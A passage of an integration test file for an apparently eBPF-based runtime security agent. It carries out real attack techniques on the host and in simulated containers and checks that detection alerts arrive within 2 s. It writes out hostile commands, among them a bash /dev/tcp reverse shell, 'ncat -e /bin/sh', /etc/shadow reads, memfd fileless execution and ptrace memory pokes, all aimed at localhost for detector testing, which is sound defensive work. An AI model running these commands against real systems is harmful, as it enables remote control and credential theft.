/**
 * `tiercel agent` on real attacks (issue 5, "Done when" 1 and 4).
 *
 * One real agent runs for the whole file, as a child process, with Tiercel's
 * syscall rules, the upstream Falco stable rules and a test-only probe rule
 * (fixtures/probe_rules.yaml: prints k8s.pod.uid, container.type, proc.vpid,
 * which no default rule outputs), `--rule-matching all`, a capture file and
 * a metadata file (`--metadata`: name, image and pod of container A, as a
 * runtime would report them).
 * Each scenario does the attack for real on this machine (files below /etc,
 * /usr/bin and /root; /etc/shadow read; chmod/chown of /etc/shadow to the mode
 * and owner it already has; a shell on a pseudo-terminal; a binary dropped in
 * /dev/shm and run; fileless execution from a memfd; a reverse shell to a
 * listener on 127.0.0.1; ncat; ptrace attach and poke; kernel-module loads
 * the kernel refuses), on the host and again in a container-like environment:
 * its own PID, mount and UTS namespaces, an overlay filesystem, a private
 * /dev/shm, and a cgroup named as the kubelet names pod containers
 * (systemd driver + containerd in the cgroup v2 hierarchy; cgroupfs driver
 * in the v1 pids hierarchy), entered the way `kubectl exec` enters a
 * container (setns + cgroup.procs, from a parent named containerd-shim).
 *
 * For every expected alert the test checks the rule, the output fields that
 * identify the actor and the target (proc.name, proc.cmdline, proc.pname,
 * fd.name where the event has a file, user.name, container.id and, for
 * container A, container.name, container.image, k8s.pod.name and
 * k8s.ns.name where the rule's output has them), the alert's correlation
 * keys (containerId and podUid, which every alert carries, also for upstream
 * rules whose output has no container field), and that it arrived within 2 s
 * of the event (the alert's evt.time to the moment its line arrived on the
 * agent's stdout).
 *
 * Last, the agent is stopped and its capture replayed with the same rules:
 * the replay must give exactly the alerts the live run gave, in order.
 *
 * Needs root, kernel BTF, the sensor addon (build/Release) and dist/ (npm run
 * build); skips with the reason otherwise, which CI (TIERCEL_CI=1) turns into
 * a failure. ncat (Debian package `ncat`) for the network tool scenarios.
 * Everything runs asynchronously: the agent is another process, and the test
 * never blocks its own event loop for long.
 */
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { accessSync, constants, existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { type AddressInfo, type Server, createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { type TestContext, after, before, describe, it } from 'node:test';
import { checkPrerequisites, tryLoadNative } from '../../src/syscall/native/index.js';
import { anchorPath, anchorsAvailable, anchorsMissingReason } from '../helpers/anchors.js';
import { BIN, ROOT, runCli } from '../helpers/cli.js';
import {
  PY, type Container, type Ran, ctrExec, cgroupMounts, newIdentity, run, sleep, startContainer, stopContainer,
} from '../helpers/container-env.js';

const FIXTURE = join(import.meta.dirname, 'fixtures', 'attack.py');
const PROBE_RULES = join(import.meta.dirname, 'fixtures', 'probe_rules.yaml');
const TIERCEL_RULES = join(ROOT, 'rules', 'syscall_rules.yaml');
const UPSTREAM_RULES = anchorPath('falco-rules', 'falco_rules.yaml');
const RULE_ARGS = ['-r', TIERCEL_RULES, '-r', UPSTREAM_RULES, '-r', PROBE_RULES, '--rule-matching', 'all'];
const DROP_RULE = 'Falco internal: syscall event drop';
/** The issue's bound: an alert within 2 s of the event. */
const MAX_LATENCY_MS = 2000;

// ---- availability ---------------------------------------------------------------------

function which(cmd: string): string | undefined {
  for (const dir of (process.env.PATH ?? '/usr/sbin:/usr/bin:/sbin:/bin').split(':')) {
    try {
      accessSync(join(dir, cmd), constants.X_OK);
      return join(dir, cmd);
    } catch {
      // not here
    }
  }
  return undefined;
}

let skip: string | false = false;
{
  const native = tryLoadNative();
  if (!native.addon) {
    skip = `the eBPF sensor addon is not built (run \`node scripts/build-native.mjs\`): ${native.error.message.split('\n')[0]}`;
  } else {
    const pre = checkPrerequisites();
    if (!pre.btf) skip = `no kernel BTF at /sys/kernel/btf/vmlinux (kernel ${pre.kernel})`;
    else if (process.getuid?.() !== 0) skip = `the scenarios need root (BPF, namespaces, cgroups, writes below /etc); running as uid ${process.getuid?.()}`;
  }
}
if (!skip && !anchorsAvailable) skip = anchorsMissingReason;
if (!skip && !existsSync(join(ROOT, 'dist'))) skip = 'dist/ is not built (run `npm run build`): the agent runs as `node bin/tiercel.js`';
if (!skip) {
  const missing = ['script', 'setpriv', 'bash', 'sh', 'cp', 'touch', 'cat', 'chmod', 'chown'].filter((c) => !which(c));
  if (!existsSync(PY) && !which(PY)) missing.push('python3');
  if (missing.length) skip = `missing programs: ${missing.join(', ')} (Debian: util-linux, python3, coreutils)`;
}
const NCAT = which('ncat');
const noNcat = NCAT ? false : 'ncat is not installed (Debian package ncat, installed by .ci/run)';

// ---- the agent ------------------------------------------------------------------------

interface Alert {
  time: string;
  rule: string;
  priority: string;
  output: string;
  output_fields: Record<string, unknown>;
  correlation?: Record<string, string>;
}

interface Received {
  /** The line exactly as the agent printed it. */
  readonly line: string;
  readonly alert: Alert;
  /** When the line arrived here (ms since the epoch). */
  readonly at: number;
}

/** The event's time in ms since the epoch (evt.time has ns; JSON numbers lose the last digits, so read the text). */
function eventMs(r: Received): number {
  const m = /"evt\.time":(\d+)/.exec(r.line);
  if (m) return Number(BigInt(m[1]!) / 1_000_000n);
  return Date.parse(r.alert.time);
}

class AgentProcess {
  readonly alerts: Received[] = [];
  stderr = '';
  url: string | undefined;
  readonly exited: Promise<{ code: number | null; signal: NodeJS.Signals | null }>;
  private stdoutRest = '';

  constructor(readonly child: ChildProcess) {
    child.stdout!.setEncoding('utf8');
    child.stdout!.on('data', (chunk: string) => {
      const at = Date.now();
      const lines = (this.stdoutRest + chunk).split('\n');
      this.stdoutRest = lines.pop()!;
      for (const line of lines) {
        if (!line.trim()) continue;
        let alert: Alert;
        try {
          alert = JSON.parse(line) as Alert;
        } catch {
          throw new Error(`the agent printed a line that is not JSON on stdout: ${line.slice(0, 300)}`);
        }
        this.alerts.push({ line, alert, at });
      }
    });
    child.stderr!.setEncoding('utf8');
    child.stderr!.on('data', (chunk: string) => {
      this.stderr += chunk;
      if (!this.url) {
        for (const line of this.stderr.split('\n')) {
          if (!line.includes('agent running')) continue;
          try {
            const url = (JSON.parse(line) as { url?: string }).url;
            if (url) this.url = url;
          } catch {
            // not a JSON log line
          }
        }
      }
    });
    this.exited = new Promise((resolve) => child.on('exit', (code, signal) => resolve({ code, signal })));
  }

  get running(): boolean {
    return this.child.exitCode === null && this.child.signalCode === null;
  }

  static async start(capture: string, metadata: string): Promise<AgentProcess> {
    const child = spawn(process.execPath, [BIN, 'agent', '-o', 'json', '--listen', '127.0.0.1:0', '--log-format', 'json',
      '--capture', capture, '--metadata', metadata, ...RULE_ARGS], { cwd: ROOT, stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, TZ: 'UTC' } });
    const agent = new AgentProcess(child);
    const deadline = Date.now() + 60_000;
    while (!agent.url) {
      if (!agent.running) throw new Error(`the agent exited before it was running:\n${agent.stderr}`);
      if (Date.now() > deadline) throw new Error(`the agent did not start within 60 s:\n${agent.stderr}`);
      await sleep(20);
    }
    for (;;) {
      try {
        const res = await fetch(`${agent.url}/readyz`);
        await res.arrayBuffer();
        if (res.status === 200) break;
      } catch {
        // not listening yet
      }
      if (!agent.running) throw new Error(`the agent exited:\n${agent.stderr}`);
      if (Date.now() > deadline) throw new Error(`/readyz did not answer 200 within 60 s:\n${agent.stderr}`);
      await sleep(50);
    }
    return agent;
  }

  /** SIGTERM, then waits for the exit (the capture file is complete after it). */
  async stop(): Promise<{ code: number | null; signal: NodeJS.Signals | null }> {
    if (this.running) this.child.kill('SIGTERM');
    const timer = setTimeout(() => this.child.kill('SIGKILL'), 30_000);
    const result = await this.exited;
    clearTimeout(timer);
    return result;
  }
}

function ok<T extends Ran>(r: T, what: string): T {
  assert.equal(r.code, 0, `${what} exited with ${r.code}: ${r.stderr}${r.stdout}`);
  return r;
}

/** A TCP listener on 127.0.0.1 that sends `commands` to whoever connects and records what comes back. */
interface Listener {
  readonly port: number;
  /** The next connection: the client's port and everything it sent until it closed. */
  next(): Promise<{ remotePort: number; received: string }>;
  close(): Promise<void>;
}

async function listen(commands: string): Promise<Listener> {
  const waiting: ((c: { remotePort: number; received: string }) => void)[] = [];
  const done: { remotePort: number; received: string }[] = [];
  const server: Server = createServer((sock) => {
    const remotePort = sock.remotePort!;
    let received = '';
    sock.setEncoding('utf8');
    sock.on('data', (d: string) => (received += d));
    sock.on('error', () => {});
    sock.on('close', () => {
      const c = { remotePort, received };
      const w = waiting.shift();
      if (w) w(c);
      else done.push(c);
    });
    sock.write(commands);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  return {
    port,
    next: () => {
      const c = done.shift();
      if (c) return Promise.resolve(c);
      return new Promise((resolve, reject) => {
        const timer = setTimeout(() => reject(new Error(`no connection to 127.0.0.1:${port} closed within 20 s`)), 20_000);
        waiting.push((conn) => {
          clearTimeout(timer);
          resolve(conn);
        });
      });
    },
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

// ---- expected alerts ----------------------------------------------------------------------

/** An exact value, or a check with a description. */
type FieldCheck = unknown | Check;
class Check {
  constructor(readonly what: string, readonly test: (v: unknown) => boolean) {}
}
const nonZero = new Check('a non-zero number', (v) => typeof v === 'number' && v !== 0);
const sameNumber = (n: number): Check => new Check(`${n}`, (v) => String(v) === String(n));
const startsWith = (s: string): Check => new Check(`a string starting with ${JSON.stringify(s)}`, (v) => typeof v === 'string' && v.startsWith(s));
const ABSENT = new Check('absent', (v) => v === undefined);

interface Expect {
  readonly rule: string;
  /** Picks this scenario's alert among the rule's alerts (e.g. by pid or by a file name). */
  readonly where: (r: Received) => boolean;
  /** Output fields and their values. */
  readonly fields: Readonly<Record<string, FieldCheck>>;
  /** Correlation keys and their values (ABSENT for keys that must not be there). */
  readonly correlation?: Readonly<Record<string, FieldCheck>>;
}

const byPid = (pid: number) => (r: Received): boolean => r.alert.correlation?.pid === String(pid);
const field = (name: string, value: unknown) => (r: Received): boolean => r.alert.output_fields[name] === value;
const all = (...ps: ((r: Received) => boolean)[]) => (r: Received): boolean => ps.every((p) => p(r));

function mismatches(actual: Readonly<Record<string, unknown>> | undefined, expected: Readonly<Record<string, FieldCheck>>): string[] {
  const out: string[] = [];
  for (const [k, want] of Object.entries(expected)) {
    const got = actual?.[k];
    const good = want instanceof Check ? want.test(got) : JSON.stringify(got) === JSON.stringify(want);
    if (!good) out.push(`${k}: got ${JSON.stringify(got)}, want ${want instanceof Check ? want.what : JSON.stringify(want)}`);
  }
  return out;
}

interface Latency {
  readonly scenario: string;
  readonly rule: string;
  readonly ms: number;
}
const latencies: Latency[] = [];

function describeAlert(r: Received): string {
  const f = r.alert.output_fields;
  return `${r.alert.rule} [pid ${r.alert.correlation?.pid}] ${String(f['proc.cmdline'] ?? f['proc.name'] ?? '')} ${f['fd.name'] ? `fd=${String(f['fd.name'])}` : ''}`;
}

/**
 * Waits for every expected alert among those that arrived since index `from`,
 * until 2 s after `actionEnd` (the scenario's program had exited: its events
 * happened before), then checks fields, correlation keys and latency.
 */
async function expectAlerts(t: TestContext, agent: AgentProcess, from: number, actionEnd: number, expects: readonly Expect[]): Promise<Received[]> {
  const deadline = actionEnd + MAX_LATENCY_MS;
  const found: (Received | undefined)[] = expects.map(() => undefined);
  const matches = (r: Received, e: Expect): boolean =>
    mismatches(r.alert.output_fields, e.fields).length === 0 && mismatches(r.alert.correlation, e.correlation ?? {}).length === 0;
  for (;;) {
    const recent = agent.alerts.slice(from);
    expects.forEach((e, i) => {
      found[i] ??= recent.find((r) => r.alert.rule === e.rule && e.where(r) && matches(r, e));
    });
    if (found.every(Boolean) || Date.now() > deadline) break;
    if (!agent.running) throw new Error(`the agent exited:\n${agent.stderr.slice(-3000)}`);
    await sleep(10);
  }
  const recent = agent.alerts.slice(from);
  const problems: string[] = [];
  expects.forEach((e, i) => {
    if (found[i]) return;
    const candidates = recent.filter((r) => r.alert.rule === e.rule && e.where(r));
    if (!candidates.length) {
      problems.push(`no "${e.rule}" alert for this scenario within ${MAX_LATENCY_MS} ms`);
    } else {
      for (const c of candidates) {
        problems.push(`"${e.rule}" alert with wrong values:\n      ${[...mismatches(c.alert.output_fields, e.fields),
          ...mismatches(c.alert.correlation, e.correlation ?? {}).map((m) => `correlation.${m}`)].join('\n      ')}`);
      }
    }
  });
  if (problems.length) {
    const drops = recent.filter((r) => r.alert.rule === DROP_RULE);
    const overload = drops.length
      ? `\n  the sensor dropped events meanwhile (the machine was overloaded, e.g. by a benchmark): ${drops.map((d) => d.alert.output).join(' | ')}`
      : '';
    assert.fail(`${problems.join('\n  ')}${overload}\n  alerts that arrived meanwhile:\n    ${recent.map(describeAlert).join('\n    ') || '(none)'}`);
  }
  const got = found as Received[];
  got.forEach((r, i) => {
    const ms = r.at - eventMs(r);
    latencies.push({ scenario: t.name, rule: expects[i]!.rule, ms });
    t.diagnostic(`${expects[i]!.rule}: ${ms} ms`);
    assert.ok(ms <= MAX_LATENCY_MS, `"${expects[i]!.rule}" arrived ${ms} ms after its event (more than ${MAX_LATENCY_MS} ms)`);
  });
  return got;
}

// ---- the scenarios ----------------------------------------------------------------------------

describe('tiercel agent on real attacks, live and replayed', { skip }, () => {
  const id = randomBytes(4).toString('hex');
  const tag = `tiercel-test-${id}`;
  const ME = readFileSync('/proc/self/comm', 'utf8').trim();
  let tmp = '';
  let capture = '';
  let agent: AgentProcess;
  /** Files the scenarios create outside tmp; removed afterwards. */
  const files: string[] = [];
  const place = (dir: string, suffix: string): string => {
    const p = join(dir, `${tag}-${suffix}`);
    files.push(p);
    return p;
  };
  const onHost = { 'container.id': 'host' };
  const whoA = newIdentity({ name: 'scenario', image: 'docker.io/library/debian:12', pod: 'web-1', namespace: 'tiercel-test' });
  const whoB = newIdentity();
  const hostKeys = (pid: number) => ({ pid: String(pid), containerId: ABSENT, podUid: ABSENT });

  before(async () => {
    tmp = mkdtempSync(join(tmpdir(), 'tiercel-agent-scenarios-'));
    capture = join(tmp, 'run.tcap');
    // Container A's metadata, as a runtime would report it (--metadata: a static provider).
    const metadata = join(tmp, 'metadata.json');
    const m = whoA.meta!;
    writeFileSync(metadata, JSON.stringify({
      containers: [{ id: whoA.fullId, name: m.name, image: m.image, type: 'containerd', pod: { name: m.pod, namespace: m.namespace, uid: whoA.podUid } }],
    }));
    agent = await AgentProcess.start(capture, metadata);
  });

  after(async () => {
    if (agent?.running) await agent.stop();
    for (const f of files) rmSync(f, { force: true });
    if (tmp) rmSync(tmp, { recursive: true, force: true });
    if (latencies.length) {
      const sorted = latencies.map((l) => l.ms).sort((a, b) => a - b);
      console.log(`# alert latency over ${sorted.length} alerts: median ${sorted[Math.floor(sorted.length / 2)]} ms, max ${sorted.at(-1)} ms`);
    }
  });

  describe('on the host', () => {
    it('a file written below /etc', async (t) => {
      const path = place('/etc', 'etc');
      const from = agent.alerts.length;
      const r = ok(await run('touch', [path]), 'touch');
      await expectAlerts(t, agent, from, r.end, [{
        rule: 'Write Below /etc',
        where: byPid(r.pid),
        fields: { 'evt.type': 'openat', 'fd.name': path, 'proc.name': 'touch', 'proc.cmdline': `touch ${path}`, 'proc.pname': ME, 'user.name': 'root', ...onHost },
        correlation: hostKeys(r.pid),
      }]);
    });

    it('a binary written below /usr/bin', async (t) => {
      const path = place('/usr/bin', 'bin');
      const from = agent.alerts.length;
      const r = ok(await run('cp', ['/usr/bin/true', path]), 'cp');
      await expectAlerts(t, agent, from, r.end, [{
        rule: 'Write Below Binary Directory',
        where: byPid(r.pid),
        fields: { 'evt.type': 'openat', 'fd.name': path, 'proc.name': 'cp', 'proc.cmdline': `cp /usr/bin/true ${path}`, 'proc.pname': ME, 'user.name': 'root', ...onHost },
        correlation: hostKeys(r.pid),
      }]);
    });

    it('a file written below /root', async (t) => {
      const path = place('/root', 'root');
      const from = agent.alerts.length;
      const r = ok(await run('sh', ['-c', `echo pwned > ${path}`]), 'sh');
      await expectAlerts(t, agent, from, r.end, [{
        rule: 'Write Below /root',
        where: byPid(r.pid),
        fields: { 'fd.name': path, 'proc.name': 'sh', 'proc.cmdline': `sh -c echo pwned > ${path}`, 'proc.pname': ME, 'user.name': 'root', ...onHost },
        correlation: hostKeys(r.pid),
      }]);
    });

    it('/etc/shadow read', async (t) => {
      const from = agent.alerts.length;
      const r = ok(await run('cat', ['/etc/shadow']), 'cat');
      const actor = { 'fd.name': '/etc/shadow', 'proc.name': 'cat', 'proc.cmdline': 'cat /etc/shadow', 'proc.pname': ME, 'user.name': 'root' };
      await expectAlerts(t, agent, from, r.end, [
        { rule: 'Sensitive File Read', where: byPid(r.pid), fields: { ...actor, ...onHost }, correlation: hostKeys(r.pid) },
        { rule: 'Read sensitive file untrusted', where: byPid(r.pid), fields: { ...actor, 'evt.type': 'openat' }, correlation: hostKeys(r.pid) },
      ]);
    });

    it('chmod and chown of /etc/shadow (to the mode and owner it has: the machine is unchanged)', async (t) => {
      const before = statSync('/etc/shadow');
      const mode = (before.mode & 0o7777).toString(8);
      const owner = `${before.uid}:${before.gid}`;
      const from = agent.alerts.length;
      const c1 = ok(await run('chmod', [mode, '/etc/shadow']), 'chmod');
      const c2 = ok(await run('chown', [owner, '/etc/shadow']), 'chown');
      const now = statSync('/etc/shadow');
      assert.deepEqual([now.mode, now.uid, now.gid], [before.mode, before.uid, before.gid], '/etc/shadow is as it was');
      // fchmodat/fchownat name their file by path: the rule's file is fs.path.name (fd.name is the dirfd, AT_FDCWD: <NA>).
      await expectAlerts(t, agent, from, c2.end, [
        {
          rule: 'Sensitive File Permissions or Ownership Changed',
          where: byPid(c1.pid),
          fields: { 'evt.type': 'fchmodat', 'fs.path.name': '/etc/shadow', 'proc.name': 'chmod', 'proc.cmdline': `chmod ${mode} /etc/shadow`, 'proc.pname': ME, 'user.name': 'root', ...onHost },
          correlation: hostKeys(c1.pid),
        },
        {
          rule: 'Sensitive File Permissions or Ownership Changed',
          where: byPid(c2.pid),
          fields: { 'evt.type': 'fchownat', 'fs.path.name': '/etc/shadow', 'proc.name': 'chown', 'proc.cmdline': `chown ${owner} /etc/shadow`, 'proc.pname': ME, 'user.name': 'root', ...onHost },
          correlation: hostKeys(c2.pid),
        },
      ]);
    });

    it('an interactive shell on a pseudo-terminal as a system account (script, as nobody)', async (t) => {
      const entry = readFileSync('/etc/passwd', 'utf8').split('\n').map((l) => l.split(':')).find((f) => f[2] === '65534');
      if (!entry || !/(nologin|false)$/.test(entry[6] ?? '')) return t.skip('no uid 65534 account with a nologin shell in /etc/passwd');
      const marker = `${tag}-tty`;
      const from = agent.alerts.length;
      // script allocates the pty and runs `$SHELL -c CMD` on it: bash, with a controlling terminal, as nobody.
      const r = ok(await run('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '--', 'script', '-qec', `: ${marker}`, '/dev/null'],
        { env: { ...process.env, SHELL: '/bin/bash' } }), 'script');
      await expectAlerts(t, agent, from, r.end, [{
        rule: 'System Account Interactive Session',
        where: field('proc.cmdline', `bash -c : ${marker}`),
        fields: { 'proc.name': 'bash', 'proc.cmdline': `bash -c : ${marker}`, 'proc.pname': 'script', 'user.name': entry[0], 'user.uid': 65534, 'proc.tty': nonZero },
        correlation: { containerId: ABSENT, podUid: ABSENT },
      }]);
    });

    it('a binary dropped in /dev/shm and executed', async (t) => {
      const path = place('/dev/shm', 'shm');
      const comm = basename(path).slice(0, 15);
      const from = agent.alerts.length;
      const r = ok(await run('sh', ['-c', `cp /usr/bin/true ${path} && ${path} dropped`]), 'sh');
      const actor = { 'proc.exepath': path, 'proc.cmdline': `${comm} dropped`, 'proc.pname': 'sh', 'user.name': 'root' };
      await expectAlerts(t, agent, from, r.end, [
        { rule: 'Executable Run From Temporary Directory', where: field('proc.exepath', path), fields: { ...actor, ...onHost }, correlation: { containerId: ABSENT } },
        { rule: 'Execution from /dev/shm', where: field('proc.exepath', path), fields: { ...actor, 'proc.name': comm, 'evt.type': 'execve' }, correlation: { containerId: ABSENT } },
      ]);
    });

    it('fileless execution: a memfd fexecve\'d (memfd_create + execveat AT_EMPTY_PATH)', async (t) => {
      const name = `${tag}-memfd`;
      const from = agent.alerts.length;
      const r = ok(await run(PY, [FIXTURE, 'memfd-fexecve', name]), 'memfd-fexecve');
      const comm = r.stdout.trim(); // what the kernel named the process (cat /proc/self/comm from the memfd)
      assert.ok(comm, 'the memfd program printed its name');
      // Not asserted: evt.type. fexecve is the execveat syscall, but the agent reports execve (see the report).
      const actor = { 'proc.exepath': `/memfd:${name}`, 'proc.cmdline': `${comm} /proc/self/comm`, 'proc.pname': ME, 'user.name': 'root' };
      await expectAlerts(t, agent, from, r.end, [
        { rule: 'Fileless Execution via memfd', where: byPid(r.pid), fields: { ...actor, 'proc.exe': 'fileless', ...onHost }, correlation: hostKeys(r.pid) },
        { rule: 'Fileless execution via memfd_create', where: byPid(r.pid), fields: { ...actor, 'proc.name': comm }, correlation: hostKeys(r.pid) },
      ]);
    });

    it('a reverse shell: bash -i with its stdio on a TCP connection to 127.0.0.1', async (t) => {
      const token = `${tag}-revshell-ran`;
      const listener = await listen(`echo ${token}; exit\n`);
      try {
        const script = `exec bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`;
        const from = agent.alerts.length;
        const r = await run('bash', ['-c', script, `${tag}-revshell`]);
        const conn = await listener.next();
        assert.ok(conn.received.includes(token), `the shell ran the listener's commands: ${conn.received}`);
        const name = `127.0.0.1:${conn.remotePort}->127.0.0.1:${listener.port}`;
        const outer = `bash -c ${script} ${tag}-revshell`;
        await expectAlerts(t, agent, from, r.end, [
          {
            rule: 'Shell Opened Network Connection',
            where: byPid(r.pid),
            fields: { 'fd.name': name, 'proc.name': 'bash', 'proc.cmdline': outer, 'proc.pname': ME, 'user.name': 'root', ...onHost },
            correlation: hostKeys(r.pid),
          },
          {
            rule: 'Reverse Shell', // bash dup2()s the socket onto its stdin
            where: all(byPid(r.pid), field('evt.rawres', 0)),
            fields: { 'evt.type': 'dup2', 'fd.name': name, 'proc.name': 'bash', 'proc.cmdline': outer, 'proc.pname': ME, 'user.name': 'root', ...onHost },
            correlation: hostKeys(r.pid),
          },
          {
            rule: 'Reverse Shell', // then runs an interactive shell with the socket as its terminal
            where: all(byPid(r.pid), field('evt.type', 'execve')),
            fields: { 'proc.name': 'bash', 'proc.cmdline': 'bash -i', 'proc.pname': ME, 'proc.stdin.name': name, 'proc.stdout.name': name, 'user.name': 'root', ...onHost },
            correlation: hostKeys(r.pid),
          },
        ]);
      } finally {
        await listener.close();
      }
    });

    it('a network tool: ncat -e /bin/sh to 127.0.0.1', { skip: noNcat }, async (t) => {
      const token = `${tag}-ncat-ran`;
      const listener = await listen(`echo ${token}; exit\n`);
      try {
        const from = agent.alerts.length;
        const r = ok(await run(NCAT!, ['-e', '/bin/sh', '127.0.0.1', String(listener.port)]), 'ncat');
        const conn = await listener.next();
        assert.ok(conn.received.includes(token), `the shell ran the listener's commands: ${conn.received}`);
        const actor = { 'proc.name': 'ncat', 'proc.cmdline': `ncat -e /bin/sh 127.0.0.1 ${listener.port}`, 'proc.pname': ME, 'user.name': 'root' };
        await expectAlerts(t, agent, from, r.end, [
          { rule: 'Network Tool Launched on Host', where: byPid(r.pid), fields: actor, correlation: hostKeys(r.pid) },
          { rule: 'Netcat or Socat Runs a Program', where: byPid(r.pid), fields: { ...actor, ...onHost }, correlation: hostKeys(r.pid) },
        ]);
      } finally {
        await listener.close();
      }
    });

    it('ptrace: attach to a process and write its memory', async (t) => {
      const marker = `${tag}-ptrace`;
      const from = agent.alerts.length;
      const r = ok(await run(PY, [FIXTURE, 'ptrace', marker]), 'ptrace');
      const target = Number(/attached=(\d+)/.exec(r.stdout)?.[1]);
      assert.ok(target > 0, r.stdout);
      const actor = { 'proc.name': 'python3', 'proc.cmdline': `python3 ${FIXTURE} ptrace ${marker}`, 'proc.pname': ME, 'user.name': 'root' };
      await expectAlerts(t, agent, from, r.end, [
        {
          rule: 'Process Attached via ptrace',
          where: byPid(r.pid),
          fields: { 'evt.arg.request': 'PTRACE_ATTACH', 'evt.arg.pid': sameNumber(target), ...actor, ...onHost },
          correlation: hostKeys(r.pid),
        },
        {
          rule: 'Process Memory Written via ptrace',
          where: byPid(r.pid),
          fields: { 'evt.arg.request': 'PTRACE_POKEDATA', 'evt.arg.pid': sameNumber(target), ...actor, ...onHost },
          correlation: hostKeys(r.pid),
        },
        { rule: 'PTRACE attached to process', where: byPid(r.pid), fields: { 'evt.type': 'ptrace', ...actor }, correlation: hostKeys(r.pid) },
      ]);
    });

    it('kernel module loads with garbage (refused by the kernel, seen anyway)', async (t) => {
      const marker = `${tag}-module`;
      const file = join(tmp, `${marker}.ko`);
      const from = agent.alerts.length;
      const r = ok(await run(PY, [FIXTURE, 'module', marker, file]), 'module');
      const m = /init_module=(\w+) finit_module=(\w+)/.exec(r.stdout);
      assert.ok(m, r.stdout);
      const actor = { 'proc.name': 'python3', 'proc.cmdline': `python3 ${FIXTURE} module ${marker} ${file}`, 'proc.pname': ME, 'user.name': 'root' };
      await expectAlerts(t, agent, from, r.end, [
        {
          rule: 'Kernel Module Loaded by Unexpected Program',
          where: all(byPid(r.pid), field('evt.type', 'init_module')),
          fields: { 'evt.res': m[1], 'fd.name': null, ...actor },
          correlation: hostKeys(r.pid),
        },
        {
          rule: 'Kernel Module Loaded by Unexpected Program',
          where: all(byPid(r.pid), field('evt.type', 'finit_module')),
          fields: { 'evt.res': m[2], 'fd.name': file, ...actor },
          correlation: hostKeys(r.pid),
        },
      ]);
    });
  });

  describe('in a container-like environment: own PID/mount/UTS namespaces, kubepods cgroup', () => {
    let a: Container | undefined;
    let b: Container | undefined;
    let cgroupSkip: string | false = false;

    before(async () => {
      const mounts = cgroupMounts();
      if (!mounts.v2) {
        cgroupSkip = 'no cgroup v2 hierarchy mounted';
        return;
      }
      // A: the kubelet's systemd driver with containerd, in the cgroup v2 hierarchy.
      a = await startContainer('a', whoA, {
        cgroupRoot: mounts.v2,
        rel: (uid, cid) => `kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod${uid.replace(/-/g, '_')}.slice/cri-containerd-${cid}.scope`,
        runtime: 'containerd',
        tmp,
        overlay: true,
      });
      // B: the kubelet's cgroupfs driver (the runtime is not in the path: "cri"), in the v1 pids hierarchy when there is one.
      b = await startContainer('b', whoB, {
        cgroupRoot: mounts.pids ?? mounts.v2,
        rel: (uid, cid) => `kubepods/besteffort/pod${uid}/${cid}`,
        runtime: 'cri',
        tmp,
        overlay: false,
      });
    });

    after(async () => {
      const left: string[] = [];
      for (const c of [a, b]) if (c) left.push(...(await stopContainer(c)));
      assert.deepEqual(left, [], 'test cgroups removed');
    });

    const keys = (c: Container, pid: number) => ({ pid: String(pid), containerId: c.id, podUid: c.podUid, execSession: startsWith(`${c.id}:${pid}:`) });
    // container.id for every container; for A also what its metadata says (B has none: the path alone tells its id and pod).
    const inside = (c: Container) => ({
      'container.id': c.id,
      ...(c.meta ? { 'container.name': c.meta.name, 'container.image': c.meta.image, 'k8s.pod.name': c.meta.pod, 'k8s.ns.name': c.meta.namespace } : {}),
    });
    const need = (t: TestContext, c: Container | undefined): c is Container => {
      if (cgroupSkip) t.skip(cgroupSkip);
      return !cgroupSkip && c !== undefined;
    };

    for (const which of ['a', 'b'] as const) {
      it(`container ${which}: a shell with a terminal (kubectl exec -it), container and pod from the cgroup path`, async (t) => {
        const c = which === 'a' ? a : b;
        if (!need(t, c)) return;
        const marker = `${tag}-ctr-${which}-tty`;
        const from = agent.alerts.length;
        const r = ok(await ctrExec(c, ['bash', '-c', `: ${marker}`], { tty: true }), 'ctr-exec');
        const actor = { 'proc.name': 'bash', 'proc.cmdline': `bash -c : ${marker}`, 'proc.pname': 'containerd-shim', 'user.name': 'root', 'proc.tty': nonZero };
        await expectAlerts(t, agent, from, r.end, [
          { rule: 'Terminal Shell in Container', where: byPid(r.childPid), fields: { ...actor, ...inside(c) }, correlation: keys(c, r.childPid) },
          { rule: 'Terminal shell in container', where: byPid(r.childPid), fields: { ...actor, 'evt.type': 'execve' }, correlation: keys(c, r.childPid) },
          {
            rule: 'Tiercel Test Probe Exec In Container',
            where: byPid(r.childPid),
            fields: {
              ...actor, 'container.id': c.id, 'container.full_id': c.fullId, 'container.type': c.runtime, 'k8s.pod.uid': c.podUid,
              'proc.vpid': new Check('a pid of the container\'s namespace (> 1, not the host pid)', (v) => typeof v === 'number' && v > 1 && v !== r.childPid),
            },
            correlation: keys(c, r.childPid),
          },
        ]);
      });

      it(`container ${which}: /etc/shadow read`, async (t) => {
        const c = which === 'a' ? a : b;
        if (!need(t, c)) return;
        const from = agent.alerts.length;
        const r = ok(await ctrExec(c, ['cat', '/etc/shadow']), 'ctr-exec');
        const actor = { 'fd.name': '/etc/shadow', 'proc.name': 'cat', 'proc.cmdline': 'cat /etc/shadow', 'proc.pname': 'containerd-shim', 'user.name': 'root' };
        await expectAlerts(t, agent, from, r.end, [
          { rule: 'Sensitive File Read', where: byPid(r.childPid), fields: { ...actor, ...inside(c) }, correlation: keys(c, r.childPid) },
          { rule: 'Read sensitive file untrusted', where: byPid(r.childPid), fields: { ...actor, 'evt.type': 'openat' }, correlation: keys(c, r.childPid) },
        ]);
      });
    }

    it('container a: files written below /etc and /usr/bin', async (t) => {
      if (!need(t, a)) return;
      const etc = place('/etc', 'ctr-etc');
      const bin = place('/usr/bin', 'ctr-bin');
      const from = agent.alerts.length;
      const r1 = ok(await ctrExec(a, ['touch', etc]), 'touch');
      const r2 = ok(await ctrExec(a, ['cp', '/usr/bin/true', bin]), 'cp');
      await expectAlerts(t, agent, from, r2.end, [
        {
          rule: 'Write Below /etc',
          where: byPid(r1.childPid),
